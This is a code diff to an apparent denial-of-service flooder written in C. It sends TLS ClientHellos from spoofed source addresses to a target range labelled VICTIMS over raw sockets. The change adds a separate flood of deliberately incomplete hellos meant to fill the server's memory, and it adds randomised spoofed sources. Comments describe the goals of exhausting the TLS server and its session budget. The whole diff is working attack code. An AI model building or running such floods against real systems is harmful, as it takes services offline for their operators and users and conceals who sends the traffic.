@@ -15,7 +15,7 @@ enum {
     VICTIMS = 0x64600000u,    /* and the second */
     PORT_MIN = 1024,
     REUSED_IDS = 64,
-    PARTIAL_HELLO = 1400, /* needs two chunks; the second never comes */
+    TWO_CHUNKS = 1400, /* of a ClientHello */
     PAYLOAD_MAX = 1184,
     LARGE_CHUNKS = 16,
     BEGUN = 64,
@@ -24,7 +24,7 @@ enum {
 struct flood {
     const struct order *order;
     struct random random;
-    struct hello hello, partial;
+    struct hello hello;
     uint8_t ids[REUSED_IDS][ID_BYTES];
     uint64_t number; /* of the packet that is being made */
     /* The attack on the budget: the sessions begun lately, to be given up again. */
@@ -62,14 +62,22 @@ static void write_noise(struct flood *f, struct packet *p, const uint8_t *id, ui
 
 /* ---- ClientHellos ---- */
 
-/* Complete ones fill the TLS server, incomplete ones our memory. */
+/* These fill the TLS server. */
 static void compose_hello(struct flood *f, struct packet *p)
 {
     p->from = somewhere(f, SPOOFED);
-    bool partial = f->number % 4 == 0;
-    struct hello *hello = partial ? &f->partial : &f->hello;
-    hello_freshen(hello, &f->random);
-    write_request(p, hello->id, 0, 1, hello->bytes, partial ? PAYLOAD_MAX : hello->length);
+    if (f->order->sources > 0)
+        p->from.ip = SPOOFED + random_below(&f->random, f->order->sources);
+    hello_freshen(&f->hello, &f->random);
+    write_request(p, f->hello.id, 0, 1, f->hello.bytes, f->hello.length);
+}
+
+/* These fill our memory: the second chunk never comes. */
+static void compose_partial(struct flood *f, struct packet *p)
+{
+    p->from = somewhere(f, SPOOFED);
+    hello_freshen(&f->hello, &f->random);
+    write_request(p, f->hello.id, 0, 1, f->hello.bytes, PAYLOAD_MAX);
 }
 
 /* 64 KiB by UDP: the first chunk says how long it is going to be. */
@@ -188,7 +196,6 @@ static int flood(const struct order *order, compose *make, size_t hello)
     f.order = order;
     random_init(&f.random);
     hello_make(&f.hello, &f.random, hello);
-    hello_make(&f.partial, &f.random, PARTIAL_HELLO);
     for (size_t i = 0; i < REUSED_IDS; i++)
         id_guess(f.ids[i], &f.random);
     int fd = wire_open_raw();
@@ -207,6 +214,11 @@ static int flood(const struct order *order, compose *make, size_t hello)
 int flood_hellos(const struct order *order)
 {
     return flood(order, compose_hello, HELLO_USUAL);
+}
+
+int flood_partial(const struct order *order)
+{
+    return flood(order, compose_partial, TWO_CHUNKS);
 }
 
 int flood_junk(const struct order *order)
